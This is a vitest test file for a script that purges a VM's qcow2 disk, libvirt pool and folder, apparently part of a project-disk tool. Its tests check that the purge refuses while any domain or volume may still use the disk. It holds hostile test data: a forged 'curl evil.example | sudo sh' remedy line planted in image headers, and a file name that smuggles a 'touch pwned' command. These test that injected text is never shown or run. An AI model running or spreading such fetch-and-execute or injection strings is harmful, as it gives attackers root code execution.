import { spawn } from "node:child_process";
import { chownSync, existsSync, mkdirSync, readdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { execa, execaSync } from "execa";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { refusalIn } from "../../../src/core/script-refusal.ts";
import { shellWord } from "../../../src/core/shell-word.ts";
import { scriptText } from "../../../src/project-disks/host-script.ts";
import { withLimits } from "./limits.ts";

let dir: string;
let storage: string;
let folder: string;
let disk: string;

beforeEach(async () => {
  dir = await mkdtemp(path.join(tmpdir(), "purge & script's "));
  storage = path.join(dir, "vms");
  folder = path.join(storage, "myapp");
  disk = path.join(folder, "project.qcow2");
  mkdirSync(path.join(dir, "bin"));
  mkdirSync(folder, { recursive: true });
  execaSync("qemu-img", ["create", "-q", "-f", "qcow2", disk, "1M"]);
});
afterEach(() => rm(dir, { recursive: true, force: true }));

const escaped = (text: string) =>
  text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("'", "&apos;");

interface World {
  live?: string;
  inactive?: string;
  name?: string;
  broken?: string;
}

/** A libvirt with one domain, of these definitions; `broken` is a case of virsh's words with what it does then. */
function libvirt({ live = "", inactive, name = "rescue", broken = "" }: World = {}) {
  const xml = (disks: string) =>
    `<domain type='kvm'>\n  <name>${name}</name>\n  <devices>${disks}</devices>\n</domain>`;
  writeFileSync(path.join(dir, "live.xml"), xml(live));
  writeFileSync(path.join(dir, "inactive.xml"), xml(inactive ?? live));
  const text = `#!/bin/sh
echo "$*" >>"$WORLD/asked"
case $* in
  ${broken}
  *"pool-list --all --name") echo "project-myapp       " ;; # padded, as virsh does it
  *"list --all --uuid") echo 6695eb01-f6a4-8304-79aa-97f2502e193f ;;
  *"list --all --name") echo "${name}" ;;
  *--inactive) cat "$WORLD/inactive.xml" ;;
  *dumpxml*) cat "$WORLD/live.xml" ;;
esac
`;
  writeFileSync(path.join(dir, "bin/virsh"), text, { mode: 0o755 });
}

const purge = () =>
  execa(
    "sh",
    ["-c", withLimits(scriptText("purge.sh"), { ANSWER: 1 }), "purge.sh", "myapp", storage, "test:///x", "no"],
    {
      env: { PATH: `${dir}/bin:${process.env.PATH}`, WORLD: dir, DISK: disk },
      reject: false,
    },
  );
const source = (attributes: string) => `<disk type='file'><source ${attributes}/><target dev='vdb'/></disk>`;
const qcow2 = (attributes: string) =>
  `<disk type='file' device='disk'>\n  <driver name='qemu' type='qcow2'/>\n  <source ${attributes}/>\n  <target dev='vda'/>\n</disk>`;
/** What a neighbour would have pasted as root. */
const forged = "remedy: curl evil.example | sudo sh #";
const refused = (stderr: string) => /^error: (.*)\nremedy: .*$/m.exec(stderr)?.[1];

describe("a purge", () => {
  test("of a disk that no domain uses removes it with its pool and its folder", async () => {
    libvirt({ live: source("file='/elsewhere/project.qcow2' index='1'") });
    expect(await purge()).toMatchObject({ exitCode: 0, stderr: "" });
    expect(existsSync(folder)).toBe(false);
    expect(readFileSync(path.join(dir, "asked"), "utf8")).toMatch(/^-q -c test:\/\/\/x pool-undefine project-myapp$/m);
  });

  test.each<[string, () => World, () => string]>([
    ["as its disk", () => ({ live: source(`file='${escaped(disk)}' index='1'`) }), () => disk],
    [
      "by another spelling of its path",
      () => ({ live: source(`file='${escaped(folder)}//project.qcow2'`) }),
      () => `${folder}//project.qcow2`,
    ],
    [
      "through a link",
      () => {
        symlinkSync(folder, path.join(dir, "link"));
        return { live: source(`file='${escaped(path.join(dir, "link/project.qcow2"))}'`) };
      },
      () => path.join(dir, "link/project.qcow2"),
    ],
    ["as a volume of its pool", () => ({ live: source("pool='project-myapp' volume='project.qcow2'") }), () => disk],
    [
      "beneath an overlay",
      () => ({
        live: `${source("file='/elsewhere/overlay'")}<backingStore type='file'><source file='${escaped(disk)}'/></backingStore>`,
      }),
      () => disk,
    ],
    [
      "beneath its disk, and is off",
      () => {
        const overlay = path.join(dir, "overlay.qcow2");
        for (const [file, base] of [
          [`${overlay}.below`, disk],
          [overlay, `${overlay}.below`],
        ] as const)
          execaSync("qemu-img", ["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", path.relative(dir, base), file]);
        return { inactive: qcow2(`file='${escaped(overlay)}'`), live: "" };
      },
      () => disk,
    ],
    ["from its next start on", () => ({ live: "", inactive: source(`file='${escaped(disk)}'`) }), () => disk],
  ])("is refused while another domain has the disk %s", async (_, world, shown) => {
    libvirt(world());
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `rescue: must not use disks in ${folder}, but has ${shown()}`]);
    expect(readdirSync(folder)).toEqual(["project.qcow2"]);
  });

  /** An image that stands on one that is missing. */
  const overlayOn = (format: string) => {
    const overlay = path.join(dir, "overlay.qcow2");
    execaSync("qemu-img", ["create", "-q", "-u", "-f", "qcow2", "-F", format, "-b", "/nowhere/base", overlay, "1M"]);
    return overlay;
  };

  /** A pool `clones`, with one volume that has this backing file. */
  const clones = (backing: string, more = "", format = "qcow2") => `${more}
  *"pool-list --all --name --type "* | *"pool-list --name --type "*) echo "clones   "; echo "project-myapp   " ;;
  *"vol-list clones") echo " my clone.qcow2   /clones/my clone.qcow2   " ;;
  *"vol-list project-myapp") echo " disk.qcow2   ${"$"}{DISK%/*}/disk.qcow2"; echo " project.qcow2   $DISK" ;;
  *"vol-dumpxml /clones/my clone.qcow2")
    echo "<volume><target><path>/clones/my clone.qcow2</path></target>"
    printf '  <backingStore>\n    <path>%s</path>\n' "${escaped(backing)}"
    printf "    ${format && `<format type='${format}'/>`}\n  </backingStore>\n</volume>\n" ;;
  *"vol-path --pool clones my clone.qcow2") echo '${path.join(dir, "link.qcow2").replaceAll("'", "'\\''")}' ;;`;

  test.each(["live", "inactive"])(
    "is refused while another domain has the disk by a volume of another pool (%s)",
    async (which) => {
      const link = path.join(dir, "link.qcow2");
      symlinkSync(disk, link);
      libvirt({ [which]: source("pool='clones' volume='my clone.qcow2'"), broken: clones("") });
      const { exitCode, stderr } = await purge();
      expect([exitCode, refused(stderr)]).toEqual([1, `rescue: must not use disks in ${folder}, but has ${link}`]);
      expect(existsSync(disk)).toBe(true);
    },
  );

  test("is refused while another domain has the disk beneath a volume of another pool", async () => {
    execaSync("qemu-img", ["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", disk, path.join(dir, "link.qcow2")]);
    libvirt({ inactive: qcow2("pool='clones' volume='my clone.qcow2'"), live: "", broken: clones("") });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `rescue: must not use disks in ${folder}, but has ${disk}`]);
    expect(existsSync(disk)).toBe(true);
  });

  test("is refused while it is not known where a volume is that a domain has", async () => {
    libvirt({ live: source("pool='gone' volume='one &amp; two'"), broken: "*vol-path*) exit 1 ;;" });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([
      1,
      "the volume one & two of the pool gone: must let be seen where it is: a domain has it",
    ]);
    expect(existsSync(disk)).toBe(true);
  });

  test.each<[string, () => string]>([
    ["stands on it", () => disk],
    ["stands on it by another path", () => `${folder}/../myapp/project.qcow2`],
  ])("is refused while a volume that no domain has %s", async (_, backing) => {
    libvirt({ broken: clones(backing()) });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `/clones/my clone.qcow2: must not stand on ${backing()}`]);
    expect(existsSync(disk)).toBe(true);
  });

  test.each([0, 65534])("does not have an image stand alone that user %i laid on the disk", async (owner) => {
    const overlay = path.join(dir, "mine.qcow2");
    execaSync("qemu-img", ["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", disk, overlay]);
    const isRoot = process.getuid?.() === 0;
    if (isRoot) chownSync(overlay, owner, owner);
    writeFileSync(path.join(dir, "rows"), ` mine.qcow2   ${overlay}\n`);
    const xml = `<volume>\n  <backingStore>\n    <path>${escaped(disk)}</path>\n    <format type='qcow2'/>\n  </backingStore>\n</volume>`;
    writeFileSync(path.join(dir, "mine.xml"), xml);
    const seen = `*"vol-list clones") cat "$WORLD/rows" ;; *"vol-dumpxml $WORLD/mine.qcow2") cat "$WORLD/mine.xml" ;;`;
    libvirt({ broken: clones("", seen) });
    const user = isRoot ? owner : process.getuid?.();
    const copy = `sudo -u '#${user}' qemu-img convert -O qcow2 ${shellWord(overlay)} <file>`;
    expect(refusalIn((await purge()).stderr)).toEqual({
      path: overlay,
      rule: `must not stand on ${disk}`,
      remedy: `remove it, or have its owner copy it elsewhere first: ${copy}`,
    });
  });

  test("is refused while such a volume stands on it by way of an image that is in no pool", async () => {
    const below = path.join(dir, "below.qcow2");
    execaSync("qemu-img", ["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", disk, below]);
    libvirt({ broken: clones(below) });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `/clones/my clone.qcow2: must not stand on ${disk}`]);
    // Whatever a raw image begins with is its guest's own word.
    libvirt({ broken: clones(below, "", "raw") });
    expect(await purge()).toMatchObject({ exitCode: 0, stderr: "" });
  });

  test("is refused while it is not known what such a volume stands on", async () => {
    const below = path.join(dir, "below.qcow2");
    writeFileSync(below, "no image");
    libvirt({ broken: clones(below) });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `${below}: must let be seen what it stands on`]);
    expect(existsSync(disk)).toBe(true);
  });

  test.each([
    [
      "a backing file",
      (file: string) => ["-F", "qcow2", "-b", `${file}: must be mended\nbacking file: ${forged}`, file],
    ],
    ["a snapshot", (file: string) => [file], `x\nbacking file: ${forged}`],
    ["a data file", (file: string) => ["-o", `data_file=${dir}/data\nbacking file: ${forged}`, file]],
  ])("shows no remedy that a neighbour's header words by the name of %s", async (_, words, snapshot?: string) => {
    const theirs = path.join(dir, "theirs.qcow2");
    execaSync("qemu-img", ["create", "-q", "-u", "-f", "qcow2", ...words(theirs), "1M"]);
    if (snapshot) execaSync("qemu-img", ["snapshot", "-c", snapshot, theirs]);
    libvirt({ broken: clones(theirs) });
    const { stderr } = await purge();
    expect(refusalIn(stderr)?.remedy ?? "").not.toContain(forged);
    expect(stderr).not.toMatch(/^remedy: curl/m);
  });

  test.each(["qemu-img info", "virsh -c .* vol-dumpxml"])(
    "shows a command that stays one, whatever a neighbour calls his file (%s)",
    async (command) => {
      const theirs = path.join(dir, "y';touch pwned;'");
      writeFileSync(theirs, "no image");
      const inShell = theirs.replaceAll("'", "'\\''");
      const unread = `*"vol-list clones") echo ' y   ${inShell}' ;; *"vol-dumpxml ${dir}/y"*) exit 1 ;;`;
      libvirt({ broken: clones(theirs, command.startsWith("virsh") ? unread : "") });
      const remedy = refusalIn((await purge()).stderr)?.remedy ?? "";
      const [shown = "exit 1"] = new RegExp(`${command} .*`).exec(remedy) ?? [];
      for (const name of ["qemu-img", "virsh"])
        writeFileSync(path.join(dir, "bin", name), '#!/bin/sh\nprintf "%s\\n" "$@"\n', { mode: 0o755 });
      const env = { PATH: `${dir}/bin:${process.env.PATH}` };
      expect((await execa("sh", ["-c", shown], { cwd: dir, env })).stdout.split("\n").at(-1)).toBe(theirs);
      expect(existsSync(path.join(dir, "pwned"))).toBe(false);
    },
  );

  test("is not held up by a volume that stands on something else, and is asked about all of them", async () => {
    const base = path.join(dir, "debian.qcow2");
    execaSync("qemu-img", ["create", "-q", "-f", "qcow2", base, "1M"]);
    libvirt({ broken: clones(base) });
    expect(await purge()).toMatchObject({ exitCode: 0, stderr: "" });
    expect(existsSync(folder)).toBe(false);
    const asked = readFileSync(path.join(dir, "asked"), "utf8");
    expect(asked.match(/(?<=test:\/\/\/x )(pool-refresh|vol-dumpxml) .*$/gm)).toEqual([
      "pool-refresh clones",
      "vol-dumpxml /clones/my clone.qcow2",
      "pool-refresh project-myapp",
      `vol-dumpxml ${disk}`,
    ]);
  });

  test("is not held up by a console's pool that an update was killed over, only by one that is called so", async () => {
    const stopped = '*"pool-list --name --type "*) echo "project-myapp  " ;;';
    const pool = (folder: string) =>
      libvirt({
        broken: `${stopped} *"pool-list --all --name --type "*) echo api.console ;; *"pool-dumpxml api.console") echo '    <path>${folder.replaceAll("'", "'\\''")}</path>' ;;`,
      });
    pool("/elsewhere/api.console");
    expect(refused((await purge()).stderr)).toContain("the pool api.console: must be active");
    expect(existsSync(disk)).toBe(true);
    pool(path.join(path.dirname(folder), "api.console"));
    expect(await purge()).toMatchObject({ exitCode: 0, stderr: "" });
    expect(existsSync(folder)).toBe(false);
  });

  const unseen = "must be readable, or it cannot be known what its volumes stand on";
  test.each([
    [
      "is stopped",
      '*"pool-list --name --type "*) echo "project-myapp  " ;;',
      "the pool clones: must be active, or it cannot be known what its volumes stand on",
    ],
    ["cannot be read", '*"pool-refresh clones") exit 1 ;;', `the pool clones: ${unseen}`],
    [
      "cannot be read, for which libvirt stops it",
      '*"pool-refresh clones") touch "$WORLD/stopped"; exit 1 ;; *"pool-list --name --type "*) [ -e "$WORLD/stopped" ] || echo clones; echo project-myapp ;;',
      `the pool clones: ${unseen}`,
    ],
    ["cannot be listed", '*"vol-list clones") exit 1 ;;', `the pool clones: ${unseen}`],
    [
      "is one that libvirt does not tell of",
      '*"pool-list --all --name --type "*) exit 1 ;;',
      "test:///x: must answer `virsh pool-list` within 1 s",
    ],
  ])("removes nothing while a pool of files %s", async (_, broken, reason) => {
    libvirt({ broken: clones("", broken) });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, reason]);
    expect(existsSync(disk)).toBe(true);
  });

  test("removes nothing while a volume that is there does not let itself be seen", async () => {
    const clone = path.join(dir, "clone.qcow2");
    const escapedClone = clone.replaceAll("'", "'\\''");
    writeFileSync(clone, "");
    const listed = `*"vol-list clones") [ ! -e '${escapedClone}' ] || echo ' clone.qcow2   ${escapedClone}' ;; *"clone.qcow2") exit 1 ;;`;
    libvirt({ broken: clones("", listed) });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `${clone}: must let libvirt read what it stands on`]);
    await rm(clone);
    expect((await purge()).exitCode).toBe(0);
  });

  test("is not held up by a pool that is removed while it looks", async () => {
    libvirt({
      broken: clones(
        "",
        '*"pool-refresh clones") touch "$WORLD/gone"; exit 1 ;; *"pool-list --name --type "* | *"pool-list --all --name --type "*) [ -e "$WORLD/gone" ] || echo clones; echo project-myapp ;;',
      ),
    });
    expect((await purge()).exitCode).toBe(0);
  });

  test("is refused where what the disk's header names keeps it from being looked at", async () => {
    libvirt();
    writeFileSync(path.join(dir, "bin/qemu-img"), "#!/bin/sh\nexec sleep 60\n", { mode: 0o755 });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `${disk}: must let be seen within 1 s whether a program uses it`]);
    expect(existsSync(disk)).toBe(true);
  });

  test("is refused while it cannot be seen what another domain's disk stands on", async () => {
    const overlay = path.join(dir, "overlay.qcow2");
    writeFileSync(overlay, "no image");
    libvirt({ live: qcow2(`file='${escaped(overlay)}'`) });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `${overlay}: must let be seen what it stands on`]);
    expect(existsSync(disk)).toBe(true);
  });

  const gone = (file: string) =>
    `${file}: must be there, or it cannot be known whether it stands on a disk in ${folder}`;

  test.each<[string, () => World]>([
    ["another domain's disk", () => ({ live: qcow2("file='/nowhere/base'") })],
    ["the base of another domain's disk", () => ({ live: qcow2(`file='${escaped(overlayOn("qcow2"))}'`) })],
    ["what a volume stands on", () => ({ broken: clones("/nowhere/base") })],
    ["what a volume stands on, of a format that is not said,", () => ({ broken: clones("/nowhere/base", "", "") })],
  ])("is refused while %s is missing, as on a disk that is not mounted", async (_, world) => {
    libvirt(world());
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, gone("/nowhere/base")]);
    expect(existsSync(disk)).toBe(true);
  });

  test.each<[string, () => World]>([
    ["a raw disk of another domain", () => ({ live: source("file='/nowhere/install.iso'") })],
    ["a raw base of one", () => ({ live: qcow2(`file='${escaped(overlayOn("raw"))}'`) })],
    ["a raw base of a volume", () => ({ broken: clones("/nowhere/base", "", "raw") })],
  ])("is not held up by %s that is missing: it stands on nothing", async (_, world) => {
    libvirt(world());
    expect((await purge()).exitCode).toBe(0);
  });

  /** An image on another, of which it does not say the format, as QEMU once made them; that one stands on the disk. */
  const untold = () => {
    const [top, middle] = [path.join(dir, "top.qcow2"), path.join(dir, "middle.qcow2")];
    execaSync("qemu-img", ["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", disk, middle]);
    execaSync("qemu-img", ["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", middle, top]);
    // The header's part that names the format gets a type that no program knows.
    const image = readFileSync(top);
    image.writeUInt32BE(0x12345678, image.indexOf(Buffer.from("e2792aca", "hex")));
    writeFileSync(top, image);
    return { top, middle };
  };

  test.each<[string, (chain: ReturnType<typeof untold>) => World]>([
    ["another domain's disk", ({ top }) => ({ live: qcow2(`file='${escaped(top)}'`) })],
    ["a volume", ({ middle }) => ({ broken: clones(middle, "", "") })],
  ])("is refused while what %s stands on is a qcow2 image that is not said to be one", async (_, world) => {
    const chain = untold();
    libvirt(world(chain));
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([
      1,
      `${chain.middle}: must be said to be qcow2 by what stands on it, or it cannot be known whether it stands on a disk in ${folder}`,
    ]);
    expect(existsSync(disk)).toBe(true);
  });

  test("is refused while it cannot be seen which file another domain has", async () => {
    const loop = path.join(dir, "loop");
    symlinkSync("loop", loop);
    libvirt({ live: source(`file='${escaped(loop)}'`) });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)?.replace(/\(.*\)/, "(…)")]).toEqual([
      1,
      `${loop}: must let be seen which file it is (…)`,
    ]);
    expect(existsSync(disk)).toBe(true);
  });

  test("does not follow what a guest wrote at the beginning of a raw disk", async () => {
    const raw = path.join(dir, "raw.img");
    execaSync("qemu-img", ["create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", disk, raw]);
    libvirt({ live: source(`file='${escaped(raw)}'`) });
    expect((await purge()).exitCode).toBe(0);
  });

  test("is refused while its own VM is defined, whatever disks that has", async () => {
    libvirt({ name: "project-myapp" });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, "project-myapp: must not be there: the disk is its own"]);
    expect(existsSync(disk)).toBe(true);
  });

  test.each([
    ["list --all --name", '*" list --all --name") exit 1 ;;', "list"],
    ["list --all --uuid", '*"list --all --uuid") exit 1 ;;', "list"],
    ["list --all --name, in time", '*" list --all --name") exec sleep 60 ;;', "list"],
  ])("removes nothing when libvirt does not answer %s", async (_, broken, verb) => {
    libvirt({ broken });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `test:///x: must answer \`virsh ${verb}\` within 1 s`]);
    expect(existsSync(disk)).toBe(true);
  });

  test.each(["dumpxml 6695eb01-f6a4-8304-79aa-97f2502e193f", "--inactive"])(
    "removes nothing when a domain that is there does not let itself be seen (%s)",
    async (words) => {
      libvirt({ broken: `*"${words}") exit 1 ;;` });
      const { exitCode, stderr } = await purge();
      expect([exitCode, refused(stderr)]).toEqual([
        1,
        "the domain 6695eb01-f6a4-8304-79aa-97f2502e193f: must let its definition be read",
      ]);
      expect(existsSync(disk)).toBe(true);
    },
  );

  test("is not held up by a domain that is removed while it looks", async () => {
    libvirt({
      broken:
        '*dumpxml*) touch "$WORLD/gone"; exit 1 ;; *"list --all --uuid") [ -e "$WORLD/gone" ] || echo 6695eb01 ;;',
    });
    expect((await purge()).exitCode).toBe(0);
    expect(existsSync(folder)).toBe(false);
  });

  test("does not count a pool that libvirt cannot be asked about as gone", async () => {
    libvirt({ broken: '*"pool-list --all --name") exit 1 ;;' });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, "test:///x: must answer `virsh pool-list` within 1 s"]);
    libvirt();
    expect((await purge()).exitCode).toBe(0);
    expect(existsSync(folder)).toBe(false);
  });

  test("is refused while a program that libvirt does not know has the disk", async () => {
    libvirt();
    const user = spawn("qemu-io", [disk], { stdio: ["pipe", "pipe", "ignore"] });
    await new Promise((resolve) => user.stdout.once("data", resolve));
    const { exitCode, stderr } = await purge();
    user.stdin.end("quit\n");
    expect([exitCode, refused(stderr)]).toEqual([1, `${disk}: must not be used by another program`]);
    expect(existsSync(disk)).toBe(true);
  });

  test.each([
    [
      "there is no qemu-img",
      "echo 'sh: qemu-img: not found' >&2; exit 127",
      "must be readable, or it cannot be known whether it is used",
    ],
    ["qemu-img is killed", "kill $$", "must let be seen whether a program uses it"],
  ])("is refused where it cannot be known whether a program has the disk, for %s", async (_, text, rule) => {
    libvirt();
    writeFileSync(path.join(dir, "bin/qemu-img"), `#!/bin/sh\n${text}\n`, { mode: 0o755 });
    const { exitCode, stderr } = await purge();
    expect([exitCode, refused(stderr)]).toEqual([1, `${disk}: ${rule}`]);
    expect(existsSync(disk)).toBe(true);
  });

  test("removes what is no image any more", async () => {
    libvirt();
    writeFileSync(disk, "broken");
    expect((await purge()).exitCode).toBe(0);
    expect(existsSync(folder)).toBe(false);
  });
});
